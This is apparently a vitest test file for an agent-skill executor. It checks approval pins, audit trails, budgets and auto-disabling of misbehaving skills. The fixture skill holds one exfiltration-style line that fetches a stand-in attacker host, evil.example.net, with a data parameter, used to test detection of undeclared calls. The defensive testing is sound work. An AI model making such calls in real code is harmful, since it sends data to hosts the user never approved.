import { describe, expect, it } from 'vitest';
import { actorFor } from '../../../src/domain/actor.js';
import type { SkillEvent, SkillProposalInput } from '../../../src/domain/skill.js';
import type { Executor } from '../../../src/executor/executor.js';
import { openExecutor } from '../../helpers/open-executor.js';

const person = actorFor('cli');
const agent = { ...actorFor('mcp', 'test-agent'), agent: 'agent-1' };

/**
 * One skill whose input chooses how it behaves: well, by a plain error, outside its output schema,
 * past its time budget, past its call budget, or by a call it did not declare.
 */
const MOODY: SkillProposalInput = {
  name: 'moody',
  purpose: 'behave as the input says',
  code: [
    'if (input.mode === "throw") throw new Error("boom");',
    'if (input.mode === "schema") return { words: "many" };',
    'if (input.mode === "slow") for (;;) {}',
    'if (input.mode === "calls") { await tools.kb.search("a"); await tools.kb.search("b"); }',
    'if (input.mode === "undeclared") await tools.fetch("https://evil.example.net/?d=1");',
    'return { words: input.mode.length };',
  ].join('\n'),
  inputSchema: { type: 'object', properties: { mode: { type: 'string' } }, required: ['mode'] },
  outputSchema: { type: 'object', properties: { words: { type: 'integer' } }, required: ['words'] },
  capabilities: { kbSearch: true, fetch: { hosts: ['api.example.com'] } },
  budget: { timeMs: 300, calls: 1 },
  examples: [{ mode: 'a' }, { mode: 'bb' }, { mode: 'ccc' }],
};

/** An executor with the moody skill approved; active after one good use unless `trial`. */
async function withMoody(policy: Record<string, unknown> = {}, trial = false) {
  const opened = openExecutor({
    network: { allowHosts: ['api.example.com', 'evil.example.net'] },
    skills: { trialUses: trial ? 50 : 1, trialMinHours: 0 },
    ...policy,
  });
  const { executor } = opened;
  const skill = await executor.proposeSkill(MOODY, agent);
  expect(skill.state).toBe('awaiting_owner');
  executor.approveSkill(skill.skillId, person);
  if (!trial) expect((await executor.useSkill('moody', { mode: 'ok' }, agent)).state).toBe('active');
  const notices: SkillEvent[] = [];
  executor.on('skill', (event) => notices.push(event));
  return { ...opened, skill, notices };
}

function skillSteps(executor: Executor) {
  return executor.listSteps({}).filter((record) => record.step.action === 'runSkill');
}

describe('skills: each use is a runSkill step', () => {
  it('a use is a step through the state machine, approved by the pin, with its records under the code hash, and not revertible', async () => {
    const { executor, skill } = await withMoody();
    const used = await executor.useSkill('moody', { mode: 'four' }, agent);
    expect(used).toMatchObject({ ok: true, output: { words: 4 }, version: 1, codeHash: skill.codeHash, state: 'active' });
    const record = executor.getStep(used.stepId);
    expect(record).toMatchObject({
      status: 'executed',
      step: {
        action: 'runSkill',
        planId: used.planId,
        args: { skill: 'moody', skillId: skill.skillId, version: 1, input: { mode: 'four' } },
      },
      evaluation: {
        risk: 'LOW',
        consent: 'none',
        reversible: false,
        approvedBySkill: { skillId: skill.skillId, codeHash: skill.codeHash },
      },
      approval: { by: { channel: 'policy', client: 'skill moody v1' }, previewHash: null },
      result: { ok: true, value: { words: 4 }, skill: { codeHash: skill.codeHash } },
    });
    expect(record.step.meta).toMatchObject({ origin: 'agent', agent: 'agent-1' });
    expect(record.runTimes?.realRun?.ended).toBe('finished');
    // The agent finds its own use; History's summaries title it.
    expect(executor.listStepsFor({}, agent).map((own) => own.step.id)).toContain(used.stepId);
    const summaries = executor.listStepSummariesFor({}, person).items.filter((item) => item.id === used.stepId);
    expect(summaries[0]).toMatchObject({
      title: 'Use skill moody v1',
      approvedBy: 'skill moody v1 (its approved pin, without asking)',
      result: expect.stringMatching(/^Returned in .*: \{"words":4\}$/),
    });
    const trail = executor.getAudit({ filters: { stepId: used.stepId }, order: 'asc' }).entries;
    expect(trail.map((entry) => entry.action)).toEqual([
      'step.proposed',
      'step.evaluated',
      'step.approved',
      'step.execution_started',
      'step.executed',
    ]);
    expect(trail[2]!.args).toMatchObject({ skillPin: { skillId: skill.skillId, version: 1, codeHash: skill.codeHash } });
    // As for runCode: isolated code changed no file, so there is nothing to put back, and revert says so.
    await expect(executor.revertStep(used.stepId, person)).rejects.toMatchObject({
      code: 'NOT_REVERSIBLE',
      message: expect.stringContaining('a skill it ran cannot be undone'),
    });
  });

  it('a plan cannot propose a runSkill step: only the skill writes its uses', async () => {
    const { executor, skill } = await withMoody();
    await expect(
      executor.propose(
        {
          steps: [
            {
              action: 'runSkill',
              args: { skill: 'moody', skillId: skill.skillId, version: 1, codeHash: skill.codeHash, input: { mode: 'x' } },
            },
          ],
        },
        agent,
      ),
    ).rejects.toMatchObject({ code: 'INVALID_PLAN', message: expect.stringContaining('skill_moody') });
    expect(skillSteps(executor)).toHaveLength(1);
  });
});

describe('skills: an active skill that misbehaves', () => {
  it.each([
    ['schema', 'SCHEMA_MISMATCH', /outside its output schema/],
    ['slow', 'BUDGET_EXCEEDED', /time budget of 300 ms/],
    ['calls', 'BUDGET_EXCEEDED', /2 tool calls; its budget is 1/],
    ['undeclared', 'UNDECLARED_CALL', /evil\.example\.net/],
  ])(
    'a use that breaks what it declared (%s) fails its step and disables the skill at once, telling the person',
    async (mode, code, why) => {
      const { executor, skill, notices } = await withMoody();
      const used = await executor.useSkill('moody', { mode }, agent);
      expect(used).toMatchObject({ ok: false, code, state: 'disabled', reason: expect.stringMatching(why) });
      expect(executor.getStep(used.stepId)).toMatchObject({ status: 'failed', error: { code, details: { skill: { state: 'disabled' } } } });
      expect(executor.getSkill(skill.skillId)).toMatchObject({
        state: 'disabled',
        reason: expect.stringMatching(new RegExp(`^active use \\(step ${used.stepId}\\) failed \\(${code}\\)`)),
      });
      expect(notices).toEqual([expect.objectContaining({ state: 'disabled', notice: expect.stringMatching(why) })]);
      await expect(executor.useSkill('moody', { mode: 'ok' }, agent)).rejects.toMatchObject({ code: 'SKILL_NOT_USABLE' });
    },
  );

  it('plain errors fail their use and are counted; a use that behaves ends the count; the policy number in a row disables it', async () => {
    const { executor, skill, notices } = await withMoody({ skills: { trialUses: 1, trialMinHours: 0, maxConsecutiveErrors: 3 } });
    for (const expected of [1, 2]) {
      const failed = await executor.useSkill('moody', { mode: 'throw' }, agent);
      expect(failed).toMatchObject({ ok: false, code: 'EXECUTION_ERROR', state: 'active' });
      expect(executor.getStep(failed.stepId)).toMatchObject({ status: 'failed', error: { details: { skill: { errorsInRow: expected } } } });
      expect(executor.getSkill(skill.skillId).errorsInRow).toBe(expected);
    }
    expect((await executor.useSkill('moody', { mode: 'ok' }, agent)).ok).toBe(true);
    expect(executor.getSkill(skill.skillId).errorsInRow).toBe(0);
    await executor.useSkill('moody', { mode: 'throw' }, agent);
    await executor.useSkill('moody', { mode: 'throw' }, agent);
    expect(notices).toEqual([]);
    const third = await executor.useSkill('moody', { mode: 'throw' }, agent);
    expect(third).toMatchObject({ ok: false, state: 'disabled', reason: expect.stringContaining('3 uses in a row failed') });
    expect(executor.getSkill(skill.skillId)).toMatchObject({ state: 'disabled', errorsInRow: 3 });
    expect(notices).toEqual([expect.objectContaining({ state: 'disabled', notice: expect.stringContaining('maxConsecutiveErrors') })]);
    // Every use is on record, the failures among them.
    const statuses = skillSteps(executor).map((record) => record.status);
    expect(statuses.filter((status) => status === 'failed')).toHaveLength(5);
    expect(statuses.filter((status) => status === 'executed')).toHaveLength(2);
  });

  it('in trial a plain error disables it at once', async () => {
    const { executor, skill } = await withMoody({}, true);
    const used = await executor.useSkill('moody', { mode: 'throw' }, agent);
    expect(used).toMatchObject({ ok: false, code: 'EXECUTION_ERROR', state: 'disabled', reason: expect.stringMatching(/^trial use/) });
    expect(executor.getSkill(skill.skillId).state).toBe('disabled');
  });
});
